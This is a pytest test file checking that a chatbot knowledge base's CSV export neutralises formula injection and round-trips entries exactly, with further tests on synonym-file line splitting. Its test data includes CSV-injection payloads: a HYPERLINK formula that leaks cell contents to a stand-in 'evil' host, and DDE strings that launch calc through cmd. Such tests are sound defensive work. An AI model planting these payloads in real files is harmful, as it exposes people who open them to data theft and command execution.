"""Knowledge exports are safe to open and exact to read back.

CSV: no cell of an export starts with a formula character (= + - @ tab CR: OWASP "CSV
injection"; similar questions are partly users' own wordings), and the reader undoes the
writer's "'" so an export still reads back to exactly the same entries; hand-written files
keep their meaning. Synonyms files: lines are cut at LF / CRLF / CR only, like knowledge files.
"""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest
from sqlalchemy import delete

from tests.console_helpers import (
    admin_fixture,  # noqa: F401 - the admin fixture
    console_app_fixture,  # noqa: F401 - the app fixture
)
from wxbot.qa import store, writer
from wxbot.qa import synonyms as synonym_store
from wxbot.qa.formats import MISSING, Item, parse, parse_bytes, write
from wxbot.qa.synonyms import SynonymError, parse_text, write_text

NOW = 1.0e9
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Values every position (main question, similar question, answer) must survive.
TRICKY = [
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"点我")',
    "=2+5+cmd /C calc",
    "+86 手机号",
    "-5 度",
    "-",
    "@SUM(A1:A2)",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\r\n-换行",
    "\n=开头是换行",
    "'",
    "''",
    "'''",
    "''=",
    "'=",
    "'-",
    "'+1",
    "'@",
    "'\t",
    "'\r",
    "'abc",
    "'中文'",
    "a'=b",
    "普通问题",
    "中间的 = 和 - 不算",
    "＝全角等号",
]


def _dump(items: list[Item]) -> str:
    out = io.StringIO(newline="")
    assert write(items, "csv", out) == len(items)
    return out.getvalue()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula_cell(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)
        # and no "|"-separated similar question either (a sheet split at "|", a copied value)
        for piece in row[2].split("|"):
            assert not piece.startswith(FORMULA_START), (piece, row)


def _read_back(text: str) -> list[tuple[list[object], object, object]]:
    parsed = parse(text, "out.csv", "csv")
    assert parsed.errors == []
    return [
        (r.questions, r.answer, None if r.language is MISSING else r.language)
        for r in parsed.records
    ]


def _items() -> list[Item]:
    items = []
    for i, value in enumerate(TRICKY):
        items.append(Item([value, f"相似{i}"], f"答案{i}"))  # as the main question
        items.append(Item([f"问题{i}", value, f"又一个{i}"], f"答案{i}"))  # in the middle
        items.append(Item([f"问题{i}", value], f"答案{i}"))  # first similar = the cell's start
        items.append(Item([f"问题{i}"], value, ("en", None, "zh")[i % 3]))  # as the answer
    items.append(Item(["空答案"], ""))
    items.append(Item(["DDE"], "=cmd|' /C calc'!A0"))  # ("|" in a question is written "/")
    items.append(Item(["全部", "=a", "-b", "@c", "+d", "'e", "''=f"], "-"))
    return items


def test_csv_export_has_no_cell_starting_with_a_formula_character() -> None:
    text = _dump(_items())
    _assert_no_formula_cell(text)
    # the dangerous values really are in the file, neutralised by a leading "'"
    cells = {cell for row in _cells(text) for cell in row}
    assert {"'=1+1", "'-", "'@SUM(A1:A2)", "'+86 手机号", "'\t=1+1", "'\r=1+1"} <= cells
    assert {"'''=", "''", "''abc", "'=cmd|' /C calc'!A0"} <= cells  # "'" itself escaped too
    assert "\n=开头是换行" in cells and "＝全角等号" in cells  # not formula starts: as they are
    row = next(r for r in _cells(text) if r[0] == "全部")
    assert row[1:] == ["'-", "'=a|'-b|'@c|'+d|''e|'''=f", ""]


def test_csv_export_reads_back_to_exactly_the_same_entries() -> None:
    items = _items()
    want = [(it.questions, it.answer, it.language) for it in items]
    assert _read_back(_dump(items)) == want


def test_csv_export_with_a_bom_reads_back(tmp_path: Path) -> None:
    """The console's export starts with a BOM (for Excel): the first cell after it still
    has its "'" taken off, and the header is still recognised."""
    items = [Item(["=1+1", "-x"], "'=2"), Item(["''"], "@")]
    data = ("\ufeff" + _dump(items)).encode("utf-8")
    parsed = parse_bytes(data, "export.csv")
    assert parsed.errors == []
    assert [(r.questions, r.answer) for r in parsed.records] == [
        (["=1+1", "-x"], "'=2"),
        (["''"], "@"),
    ]


def test_random_csv_values_read_back_exactly() -> None:
    """Values made of the pieces the escape and CSV quoting treat specially, in any order."""
    pieces = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", '"', ",", " ", "x", "中", "＝"]
    rnd = random.Random(2025)

    def value() -> str:
        return "".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 8)))

    items = []
    for _ in range(2000):
        questions = [value() for _ in range(rnd.randint(1, 4))]
        # what CSV cannot hold as it is: a blank question, a "|" (written "/")
        questions = [q for q in questions if q.strip()] or ["问"]
        items.append(Item(questions, value() if rnd.random() < 0.9 else "", None))
    text = _dump(items)
    _assert_no_formula_cell(text)
    assert _read_back(text) == [(it.questions, it.answer, None) for it in items]


def test_hand_written_csv_reads_as_before() -> None:
    """Files without a leading "'" mean what they always did; a "'" followed by anything
    but a formula character or "'" is kept."""
    headerless = "=1+1|-x,@答案\n'abc,'中文\n a'=b,+1\n"
    assert _read_back(headerless) == [
        (["=1+1", "-x"], "@答案", None),
        (["'abc"], "'中文", None),
        ([" a'=b"], "+1", None),
    ]
    with_header = (
        "问题,答案,相似问法,语言\n"
        "-怎么退款,=答案,+相似|@另一个|'保留,zh\n"
        "\t,空问题的行,,\n"
        "普通,普通答案,,\n"
    )
    parsed = parse(with_header, "hand.csv", "csv")
    assert parsed.errors == []
    assert [(r.questions, r.answer, r.language) for r in parsed.records] == [
        (["-怎么退款", "+相似", "@另一个", "'保留"], "=答案", "zh"),
        ([], "空问题的行", None),
        (["普通"], "普通答案", None),
    ]


def test_hand_written_leading_quote_before_a_formula_character_is_taken_off() -> None:
    """The one documented change: "'=" reads "=" (write "''=" to keep "'=")."""
    text = "question,answer,similar\n'=q,'-a,'@s|''=t\n"
    assert _read_back(text) == [(["=q", "@s", "'=t"], "-a", None)]


def test_headerless_csv_whose_first_cell_starts_with_a_quote() -> None:
    """Header detection looks at the cells as written: "'question" is data, not a header."""
    for prefix in ("", "\ufeff"):
        data = (prefix + "'=问题,'-答案\n'question,answer\n").encode("utf-8")
        parsed = parse_bytes(data, "hand.csv")
        assert parsed.errors == []
        assert [(r.questions, r.answer) for r in parsed.records] == [
            (["=问题"], "-答案"),
            (["'question"], "answer"),
        ]


# -- through the database: the CLI and the console export --------------------------------------

STORED = [
    (["-5 度的天气怎么办", '=HYPERLINK("http://evil/?"&A1,"点我")', "@客服 在吗"], "=1+1 是公式"),
    (["+86 手机号怎么绑定", "'引号开头的问法"], "-"),
    (["普通问题", "''=两个引号"], "@所有人 通知"),
    (["'=已转义的样子"], "'- 也一样"),
]


def _store(app) -> dict[int, tuple[str, list[str]]]:  # type: ignore[no-untyped-def]
    with app.extensions["wxbot.engine"].begin() as conn:
        for questions, answer in STORED:
            writer.create_entry(conn, questions, answer, now=NOW, source="api")
        return store.load_entries(conn)


def _clear(app) -> None:  # type: ignore[no-untyped-def]
    with app.extensions["wxbot.engine"].begin() as conn:
        conn.execute(delete(store.questions))
        conn.execute(delete(store.entries))


def _entries(app) -> list[tuple[str, list[str]]]:  # type: ignore[no-untyped-def]
    with app.extensions["wxbot.engine"].connect() as conn:
        return [v for _, v in sorted(store.load_entries(conn).items())]


def test_cli_csv_export_is_safe_and_imports_back(app, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.cli import kb

    stored = _store(app)
    assert [v for _, v in sorted(stored.items())] == [(a, q) for q, a in STORED]
    runner = app.test_cli_runner()
    first = tmp_path / "first.csv"
    assert runner.invoke(kb, ["export", str(first)]).exit_code == 0
    _assert_no_formula_cell(first.read_text(encoding="utf-8"))
    again = runner.invoke(kb, ["import", str(first)])
    assert "added 0, updated 0, unchanged 4, rejected 0" in again.output, again.output
    _clear(app)
    fresh = runner.invoke(kb, ["import", str(first)])
    assert "added 4, updated 0" in fresh.output, fresh.output
    assert _entries(app) == [(a, q) for q, a in STORED]
    second = tmp_path / "second.csv"
    assert runner.invoke(kb, ["export", str(second)]).exit_code == 0
    assert second.read_bytes() == first.read_bytes()


def test_console_csv_export_is_safe_and_imports_back(app, admin, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.cli import kb

    _store(app)
    resp = admin.get("/admin/knowledge/export?format=csv")
    assert resp.status_code == 200
    body = resp.get_data()
    assert body.startswith("\ufeff".encode())
    _assert_no_formula_cell(body.decode("utf-8-sig"))
    path = tmp_path / "knowledge.csv"
    path.write_bytes(body)
    _clear(app)
    result = app.test_cli_runner().invoke(kb, ["import", str(path)])
    assert "added 4, updated 0" in result.output, result.output
    assert _entries(app) == [(a, q) for q, a in STORED]


# -- synonyms files: lines end at LF / CRLF / CR only ------------------------------------------

SEPARATORS = ["\u2028", "\u2029", "\x85", "\x1c", "\x1d", "\x1e", "\x0b", "\x0c"]


@pytest.mark.parametrize("sep", SEPARATORS)
def test_synonym_line_holding_a_unicode_line_separator_is_one_group(sep: str) -> None:
    text = f"# wxbot synonyms\n丢了{sep}遗失 不见了\r\n收据 小票{sep}凭条\r坏\n"
    groups, errors = parse_text(text, "s.txt")
    assert groups == [(2, ["丢了", "遗失", "不见了"]), (3, ["收据", "小票", "凭条"])]
    assert errors == ["s.txt:4: a synonym group needs at least two different words"]


def test_synonym_groups_with_separators_export_and_import_back(app, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.cli import kb

    engine = app.extensions["wxbot.engine"]
    # typed as one string (the separators split words, as spaces do)
    given: list[object] = [f"甲{i}{sep}乙{i} 丙{i}{sep}丁{i}" for i, sep in enumerate(SEPARATORS)]
    with engine.begin() as conn:
        conn.execute(delete(synonym_store.synonyms))
        for words in given:
            synonym_store.create(conn, words, now=NOW)
        # a list whose item holds a separator is refused: it was stored as one word no text
        # holds (「戊己」 for 「戊\u2028己」), where the sender meant two
        with pytest.raises(SynonymError, match="separator"):
            synonym_store.create(conn, ["戊\u2028己", "庚\x85辛"], now=NOW)
        groups = [g.words for g in synonym_store.load(conn)]
    out = io.StringIO()
    assert write_text(groups, out) == len(groups)  # type: ignore[arg-type]
    assert [w for _, w in parse_text(out.getvalue(), "s.txt")[0]] == groups

    runner = app.test_cli_runner()
    path = tmp_path / "my-synonyms.txt"
    assert runner.invoke(kb, ["export", str(path)]).exit_code == 0
    with engine.begin() as conn:
        conn.execute(delete(synonym_store.synonyms))
    result = runner.invoke(kb, ["import", str(path)])
    assert result.exit_code == 0, result.output
    assert f"synonym groups: added {len(groups)}, unchanged 0" in result.output, result.output
    with engine.connect() as conn:
        assert [g.words for g in synonym_store.load(conn)] == groups
